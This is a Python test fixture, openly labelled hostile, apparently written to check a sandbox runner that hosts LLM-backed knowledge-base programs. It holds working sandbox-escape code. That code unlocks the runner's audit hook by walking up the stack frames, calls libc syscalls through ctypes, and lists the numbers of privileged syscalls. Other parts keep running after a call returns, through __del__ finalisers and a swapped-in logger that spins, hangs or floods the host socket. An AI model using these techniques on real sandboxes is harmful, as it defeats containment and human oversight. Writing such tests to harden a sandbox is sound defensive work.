"""HOSTILE: keeps working after its call returned: the string read() returns is a subclass whose
__del__ starts a thread or hangs ("del_spin", "del_hang"), or the toolkit's logger is replaced by one
whose drain(), which the runner calls after its thread check, starts a thread that spins or sends frames
to the host, or hangs ("logger_spin", "logger_frames", "logger_hang"). "report" returns the spin count."""

import dataclasses
import random
from dataclasses import dataclass

INSTRUCTION_KNOWLEDGE_ITEM = INSTRUCTION_QUERY = INSTRUCTION_RESPONSE = ALWAYS_ON_KNOWLEDGE = ""


@dataclass
class KnowledgeItem:
    text: str


@dataclass
class Query:
    text: str


def escape():
    """Leave the Python layers behind, as a program written by an attacker would: ``random._os`` and
    ``dataclasses.sys`` hand out what they imported, the runner's frames hold the closure that keeps the
    audit hook's state, and ctypes is already loaded. What is left is the kernel's."""
    sys = dataclasses.sys
    frame = sys._getframe()
    while frame is not None and "lock" not in frame.f_locals:
        frame = frame.f_back
    if frame is not None and frame.f_locals["lock"] is not None:
        frame.f_locals["lock"].__closure__[0].cell_contents["locked"] = False
    ctypes = sys.modules["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return random._os, ctypes, libc


def verdict(ctypes, os, result):
    """ESCAPED when the call succeeded, else the errno it failed with."""
    if isinstance(result, int) and result < 0:
        return "blocked:" + os.strerror(ctypes.get_errno())
    return "ESCAPED"


MACHINE = dataclasses.sys.modules["platform"].machine() if "platform" in dataclasses.sys.modules else "x86_64"
NR = {
    "x86_64": {"userfaultfd": 323, "perf_event_open": 298, "bpf": 321, "keyctl": 250, "kexec_load": 246,
               "init_module": 175, "iopl": 172, "syslog": 103, "adjtimex": 159, "clock_settime": 227,
               "ptrace": 101, "process_vm_readv": 310, "unshare": 272, "setns": 308, "clone": 56,
               "rt_sigqueueinfo": 129, "tgkill": 234, "memfd_create": 319, "execveat": 322, "personality": 135,
               "open_by_handle_at": 304, "prlimit64": 302, "setpriority": 141, "getpriority": 140,
               "sched_setaffinity": 203, "sched_setscheduler": 144, "mount": 165, "umount2": 166,
               "pivot_root": 155, "chroot": 161, "setxattr": 188, "fsetxattr": 190, "mknodat": 259,
               "socketpair": 53, "socket": 41, "ioctl": 16, "prctl": 157, "kill": 62, "settimeofday": 164},
    "aarch64": {"userfaultfd": 282, "perf_event_open": 241, "bpf": 280, "keyctl": 219, "kexec_load": 104,
                "init_module": 105, "syslog": 116, "adjtimex": 171, "clock_settime": 112, "ptrace": 117,
                "process_vm_readv": 270, "unshare": 97, "setns": 268, "clone": 220, "rt_sigqueueinfo": 138,
                "tgkill": 131, "memfd_create": 279, "execveat": 281, "personality": 92, "open_by_handle_at": 265,
                "prlimit64": 261, "setpriority": 140, "getpriority": 141, "sched_setaffinity": 122,
                "sched_setscheduler": 119, "mount": 40, "umount2": 39, "pivot_root": 41, "chroot": 51,
                "setxattr": 5, "fsetxattr": 7, "mknodat": 33, "socketpair": 199, "socket": 198, "ioctl": 29,
                "prctl": 167, "kill": 129, "settimeofday": 170},
}[MACHINE]
# The same number on every architecture (added after the tables were unified).
NR.update({"io_uring_setup": 425, "open_tree": 428, "move_mount": 429, "fsopen": 430, "fspick": 433,
           "pidfd_open": 434, "pidfd_send_signal": 424, "pidfd_getfd": 438, "mount_setattr": 442})

STATE = {"count": 0, "toolkit": None, "action": None, "sent": 0}


def spin():
    while True:
        STATE["count"] += 1


def frames():
    session = STATE["toolkit"]._ask.__self__
    while True:
        try:
            session.sock.sendall(b"\x00\x00\x00\x0d" + b'{"op": "llm"}')
            STATE["sent"] += 1
        except Exception:
            return


def start_work():
    action = STATE["action"]
    if action in ("del_hang", "logger_hang"):
        while True:
            pass
    if action in ("del_spin", "logger_spin"):
        dataclasses._thread.start_new_thread(spin, ())
    if action == "logger_frames":
        dataclasses._thread.start_new_thread(frames, ())
        STATE["action"] = "frames_started"


class Sneaky(str):
    """Returned by read(): its __del__ runs when the runner lets go of it."""

    def __del__(self):
        start_work()


class Logger:
    """Put in place of the toolkit's logger: the runner calls drain() after its thread check."""

    def __init__(self, real):
        self.real = real

    def debug(self, msg):
        self.real.debug(msg)

    def drain(self):
        if STATE["action"] and STATE["action"].startswith("logger_"):
            start_work()
            if STATE["action"] != "frames_started":
                STATE["action"] = None
        return self.real.drain()


class KnowledgeBase:
    def __init__(self, toolkit):
        STATE["toolkit"] = toolkit
        toolkit.logger = Logger(toolkit.logger)

    def write(self, item, raw_text):
        pass

    def read(self, query):
        if query.text == "report":
            while STATE["toolkit"] is not None and STATE["action"] == "frames_started" and not STATE["sent"]:
                pass  # the frames thread answers first
            return "count %d" % STATE["count"]
        STATE["action"] = query.text
        if query.text.startswith("del_"):
            return Sneaky("returned")
        return "returned"
